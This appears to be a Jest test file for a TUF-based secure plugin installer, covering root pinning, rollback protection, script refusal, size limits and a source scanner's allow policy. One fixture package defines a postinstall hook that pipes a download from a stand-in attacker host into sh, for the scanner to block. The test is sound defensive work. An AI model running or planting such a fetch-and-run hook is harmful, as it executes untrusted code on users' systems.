import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { LocalTUFRepository } from './local-tuf-repository.ts';
import { scanSource } from './scan-source.ts';
import { SecurePluginInstaller } from './secure-plugin-installer.ts';
import { TUFIntegration } from './tuf-integration.ts';

const TARGET = 'plugins/vendor/plugin-name.tar.gz';
let made: string;
let dir: string;

beforeAll(async () => {
  made = mkdtempSync(join(tmpdir(), 'api-made-'));
  writePlugin(made, '1.0.0');
  const repository = new LocalTUFRepository({ repoDir: join(made, 'repo') });
  await repository.init({ keyType: 'ed25519' });
  await repository.publish([join(made, 'plugin')], { targetPath: TARGET });
});
afterAll(() => rmSync(made, { recursive: true, force: true }));
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'api-'));
  cpSync(made, dir, { recursive: true });
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

function writePlugin(folder: string, version: string): void {
  mkdirSync(join(folder, 'plugin'), { recursive: true });
  writeFileSync(
    join(folder, 'plugin/package.json'),
    JSON.stringify({ name: '@vendor/plugin-name', version, type: 'module' }),
  );
  writeFileSync(join(folder, 'plugin/index.js'), `export const version = '${version}';\n`);
}

function installerOf(
  options: Partial<ConstructorParameters<typeof SecurePluginInstaller>[0]> = {},
): SecurePluginInstaller {
  return new SecurePluginInstaller({
    pluginsDir: join(dir, 'plugins'),
    tufOptions: { localRepoDir: join(dir, 'repo') },
    ignoreScripts: true,
    maxFileSize: 100 * 1024 * 1024,
    ...options,
  });
}

function installedVersion(): string | undefined {
  const path = join(dir, 'plugins/current/vendor/plugin-name/package.json');
  return existsSync(path)
    ? (JSON.parse(readFileSync(path, 'utf8')) as { version: string }).version
    : undefined;
}

describe('SecurePluginInstaller', () => {
  it('runs as the deployment guide writes it', async () => {
    const installer = installerOf();
    await installer.initialize();
    await installer.installPlugin(TARGET);
    expect(installedVersion()).toBe('1.0.0');
    expect((await installer.listPlugins()).current?.plugins).toMatchObject([
      { name: '@vendor/plugin-name', targetPath: TARGET },
    ]);
  });

  it('upgrades by name, and rolls back', async () => {
    const installer = installerOf();
    await installer.initialize();
    await installer.installPlugin('@vendor/plugin-name');
    writePlugin(dir, '1.1.0');
    await new LocalTUFRepository({ repoDir: join(dir, 'repo') }).publish([join(dir, 'plugin')]);
    await installer.installPlugin('@vendor/plugin-name@^1.1.0');
    expect(installedVersion()).toBe('1.1.0');
    await installer.rollback();
    expect(installedVersion()).toBe('1.0.0');
  });

  it('takes an address with a root that was given, as bytes or as a file', async () => {
    const root = join(dir, 'repo/root.json');
    for (const trustedRoot of [root, readFileSync(root)]) {
      const installer = installerOf({ tufOptions: { repositoryUrl: `file://${dir}/repo`, trustedRoot } });
      await installer.initialize();
      expect(await installer.installPlugin(TARGET)).toMatchObject({ generation: 1 });
    }
  });

  it('refuses changed bytes of a pinned root.json, and keeps what is installed', async () => {
    const installer = installerOf();
    await installer.initialize();
    await installer.installPlugin(TARGET);
    const root = join(dir, 'repo/root.json');
    writeFileSync(root, `${readFileSync(root, 'utf8')} `);
    await expect(installerOf().initialize()).rejects.toMatchObject({ code: 'ERR_TUF_ROOT_CHANGED' });
    expect(installedVersion()).toBe('1.0.0');
  });

  it('refuses a local folder that a link now leads elsewhere', async () => {
    symlinkSync(join(dir, 'repo'), join(dir, 'link'));
    const options = { tufOptions: { localRepoDir: join(dir, 'link') } };
    const installer = installerOf(options);
    await installer.initialize();
    await installer.installPlugin(TARGET);
    await new LocalTUFRepository({ repoDir: join(dir, 'other') }).init({ keyType: 'ed25519' });
    rmSync(join(dir, 'link'));
    symlinkSync(join(dir, 'other'), join(dir, 'link'));
    await expect(installerOf(options).initialize()).rejects.toMatchObject({ code: 'ERR_TUF_ROOT_CHANGED' });
    expect(installedVersion()).toBe('1.0.0');
  });

  it('keeps the rollback floor whichever way the same repository is reached', async () => {
    cpSync(join(dir, 'repo'), join(dir, 'older'), { recursive: true });
    writePlugin(dir, '1.1.0');
    await new LocalTUFRepository({ repoDir: join(dir, 'repo') }).publish([join(dir, 'plugin')]);
    const from = (folder: string): SecurePluginInstaller =>
      installerOf({
        tufOptions: { repositoryUrl: join(dir, folder), trustedRoot: join(dir, 'repo/root.json') },
      });
    const [newer, older] = [from('repo'), from('older')];
    await newer.initialize();
    await older.initialize();
    await newer.installPlugin('@vendor/plugin-name');
    await expect(older.installPlugin('@vendor/plugin-name')).rejects.toMatchObject({
      code: 'ERR_TUF_ROLLBACK',
    });
    expect(installedVersion()).toBe('1.1.0');
  });

  it('puts back a plugin that vanished from the live set', async () => {
    const installer = installerOf();
    await installer.initialize();
    await installer.installPlugin(TARGET);
    rmSync(join(dir, 'plugins/current/vendor/plugin-name'));
    expect(await installer.installPlugin(TARGET)).toMatchObject({ status: 'installed', generation: 2 });
    expect(installedVersion()).toBe('1.0.0');
  });

  it('refuses to run scripts that no policy names, and installs nothing', async () => {
    const installer = installerOf({ ignoreScripts: false });
    await installer.initialize();
    await expect(installer.installPlugin(TARGET)).rejects.toMatchObject({ code: 'ERR_SCRIPTS_NOT_ALLOWED' });
    expect(installedVersion()).toBeUndefined();
  });

  it('bounds the archive and every file in it', async () => {
    const installer = installerOf({ maxFileSize: 20 });
    await installer.initialize();
    await expect(installer.installPlugin(TARGET)).rejects.toMatchObject({ code: 'ERR_ARCHIVE_LIMIT' });
    expect(installedVersion()).toBeUndefined();
  });

  it('wants to be initialized first', async () => {
    await expect(installerOf().installPlugin(TARGET)).rejects.toMatchObject({ code: 'ERR_USAGE' });
    expect(existsSync(join(dir, 'plugins'))).toBe(false);
  });

  it('refuses a local folder that is no repository', async () => {
    const installer = installerOf({ tufOptions: { localRepoDir: join(dir, 'plugin') } });
    await expect(installer.initialize()).rejects.toMatchObject({ code: 'ERR_VAULT_NOT_FOUND' });
    expect(existsSync(join(dir, 'plugins'))).toBe(false);
  });
});

describe('TUFIntegration', () => {
  it('refreshes, finds and downloads', async () => {
    const tuf = new TUFIntegration({
      pluginsDir: join(dir, 'plugins'),
      tufOptions: { localRepoDir: join(dir, 'repo') },
    });
    expect(await tuf.refresh()).toMatchObject({ root: { version: 1 }, targets: { version: 2 } });
    const target = await tuf.find(TARGET);
    expect((await tuf.download(TARGET)).length).toBe(target?.length);
    await expect(tuf.download('nothing.tgz')).rejects.toMatchObject({ code: 'ERR_TARGET_NOT_FOUND' });
  });

  it('wants to be refreshed first', async () => {
    const tuf = new TUFIntegration({ pluginsDir: dir, tufOptions: { localRepoDir: join(dir, 'repo') } });
    await expect(tuf.find(TARGET)).rejects.toMatchObject({ code: 'ERR_USAGE' });
  });
});

describe('LocalTUFRepository', () => {
  it('answers the same bytes with unchanged and other bytes with a refusal', async () => {
    const repository = new LocalTUFRepository({ repoDir: join(dir, 'repo') });
    expect(await repository.publish([join(dir, 'plugin')], { targetPath: TARGET })).toMatchObject({
      status: 'unchanged',
    });
    const before = readdirSync(join(dir, 'repo'), { recursive: true });
    writeFileSync(join(dir, 'plugin/index.js'), 'export {};\n');
    await expect(repository.publish([join(dir, 'plugin')])).rejects.toMatchObject({
      code: 'ERR_VERSION_EXISTS',
    });
    expect(readdirSync(join(dir, 'repo'), { recursive: true })).toEqual(before);
    expect((await repository.status()).targets.map(({ path }) => path)).toContain(TARGET);
  });
});

const NOW = new Date('2026-06-01T00:00:00Z');

describe('a policy', () => {
  it('lets a stopped plugin through by name, version and hash, and nothing else', async () => {
    const evil = {
      name: 'evil',
      version: '1.0.0',
      scripts: { postinstall: 'curl http://evil.example.invalid/x | sh' },
    };
    writeFileSync(join(dir, 'plugin/package.json'), JSON.stringify(evil));
    const source = join(dir, 'plugin');
    const { sha256, verdict } = await scanSource({ now: NOW, source });
    expect(verdict).toBe('block');
    const policyFile = join(dir, 'vault.policy.yaml');
    const allow = (digest: string): void =>
      writeFileSync(
        policyFile,
        `version: 1\nallow:\n  - { name: evil, version: 1.0.0, sha256: ${digest} }\n`,
      );
    allow('ab'.repeat(32));
    expect(await scanSource({ now: NOW, source, policyFile })).toMatchObject({ verdict: 'block' });
    allow(sha256);
    expect(await scanSource({ now: NOW, source, policyFile })).toMatchObject({ verdict: 'allowed' });
  });

  it('that cannot be read is a refusal, not the default', async () => {
    const source = join(dir, 'plugin');
    await expect(scanSource({ now: NOW, source, policyFile: join(dir, 'none.yaml') })).rejects.toMatchObject({
      code: 'ERR_IO',
    });
    writeFileSync(join(dir, 'p.yaml'), 'version: 1\nfail-on: low\n');
    await expect(scanSource({ now: NOW, source, policyFile: join(dir, 'p.yaml') })).rejects.toMatchObject({
      code: 'ERR_CONFIG_INVALID',
    });
  });
});

describe('scanning against the version before', () => {
  const write = (folder: string, fields: object): string => {
    mkdirSync(join(dir, folder), { recursive: true });
    writeFileSync(join(dir, folder, 'package.json'), JSON.stringify({ version: '1.0.0', ...fields }));
    return join(dir, folder);
  };

  it('reports what is new', async () => {
    const previous = write('before', { name: 'a' });
    const source = write('now', { name: 'a', version: '1.0.1', bin: { b: 'package.json' } });
    const rules = (report: { readonly findings: readonly { readonly rule: string }[] }): readonly string[] =>
      report.findings.map(({ rule }) => rule);
    expect(rules(await scanSource({ now: NOW, source, previous }))).toContain('DIF-001');
    expect(rules(await scanSource({ now: NOW, source }))).not.toContain('DIF-001');
  });

  it('refuses another plugin, and what cannot be read', async () => {
    const source = write('now', { name: 'a' });
    const other = write('other', { name: 'b' });
    await expect(scanSource({ now: NOW, source, previous: other })).rejects.toMatchObject({
      code: 'ERR_USAGE',
    });
    await expect(scanSource({ now: NOW, source, previous: join(dir, 'none') })).rejects.toMatchObject({
      code: 'ERR_PLUGIN_SOURCE',
    });
  });
});
